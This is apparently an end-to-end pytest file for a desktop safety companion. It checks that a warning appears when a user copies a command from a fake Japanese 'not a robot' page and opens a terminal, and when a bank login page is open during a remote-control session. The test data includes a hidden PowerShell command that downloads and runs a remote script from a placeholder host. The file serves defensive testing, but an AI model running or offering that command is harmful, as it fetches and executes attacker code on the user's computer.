"""A word in time: the guide opens by itself over a bank's page and over a window for commands, and else does not."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.end2end.hands import guide_is_seen, press
from tests.end2end.stage import Stage
from tests.support.reader import CAN_BE_READ
from tools.desktop import wait_for

pytestmark = [
    pytest.mark.display,
    pytest.mark.bus,
    pytest.mark.release("a real browser and a real window of commands each; companion/test_dangers.py judges"),
]

COMMAND = "powershell -w hidden -c iex (iwr http://0x0.invalid/a.ps1)"


def wait_read(stage: Stage) -> None:
    stage.start("--companion", **CAN_BE_READ)
    assert wait_for(stage.button.is_seen, 15), "no button"


def read_page(stage: Stage, title: str, text: str = "") -> None:
    """The browser with a page of this title, in front."""
    page = stage.folder / "page.html"
    page.write_text(f"<meta charset=utf-8><title>{title}</title><p>{text}", encoding="utf-8")
    stage.browser = stage.new_browser().start(page.as_uri())
    assert wait_for(stage.windows, 20), "no page"
    stage.manage("-b", "add,maximized_vert,maximized_horz")
    assert wait_for(lambda: title in stage.desktop.title(stage.windows()[0].id), 20), "not loaded"


def test_a_window_for_commands_after_a_command_was_copied(stage: Stage, run: Callable[..., None]) -> None:
    wait_read(stage)
    read_page(stage, "ロボットではありません", COMMAND)
    press("ctrl+a", "ctrl+c")
    assert not wait_for(guide_is_seen, 3), "too early"
    run("/usr/bin/xmessage", "xterm", "-geometry", "+700+100", "x" * 30)
    assert wait_for(guide_is_seen, 10), "no word"
    assert stage.reads("はりつけないでください")


def test_a_banks_page_while_somebody_operates_the_pc(stage: Stage, run: Callable[..., None]) -> None:
    wait_read(stage)
    run("/bin/sleep", "teamviewer_desktop", "120")
    read_page(stage, "さくら銀行 ログイン")
    assert wait_for(guide_is_seen, 10), "no word"
    assert stage.reads("だれかが")
